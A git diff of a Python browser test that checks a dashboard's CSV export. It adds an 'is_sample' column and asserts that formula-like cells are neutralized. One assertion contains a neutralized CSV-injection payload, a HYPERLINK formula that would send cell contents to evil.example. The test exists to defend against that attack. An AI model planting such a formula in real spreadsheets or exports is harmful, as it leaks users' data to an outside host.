@@ -319,7 +319,7 @@ def formula_site(sample_home: Path, tmp_path_factory: pytest.TempPathFactory) ->
 
 def test_download_the_rows_shown_as_csv(page, formula_site, tmp_path, capsys):
     """The CSV button writes the rows the filters leave with the values `cdpi targets --format csv` writes
-    for them: the same columns (geoid, snapshot, run_id, why_call_links with their URLs), a population
+    for them: the same columns (geoid, snapshot, run_id, is_sample, why_call_links with their URLs), a population
     apart from its band, gap names apart from the "core" badge, and formula-like text neutralized by the
     same rule; not the cells' display text. Built in the page (the CSP-strict page fetches nothing)."""
     home, out, state = formula_site
@@ -330,7 +330,7 @@ def test_download_the_rows_shown_as_csv(page, formula_site, tmp_path, capsys):
     assert len(table) - 1 == len(visible_rows(page.page, "targets")) > 1
     assert table == expected
     header = table[0]
-    assert header[:4] == ["rank", "city", "state", "population"] and header[-3:] == ["geoid", "snapshot", "run_id"]
+    assert header[:4] == ["rank", "city", "state", "population"] and header[-4:] == ["geoid", "snapshot", "run_id", "is_sample"]
     why = [r[header.index("why_call")] for r in table[1:]]
     assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")" in why, "neutralized as the CLI does"
     assert not [c for r in table for c in r if c[:1] and c[:1] in "=+@"], "a cell a spreadsheet would run"
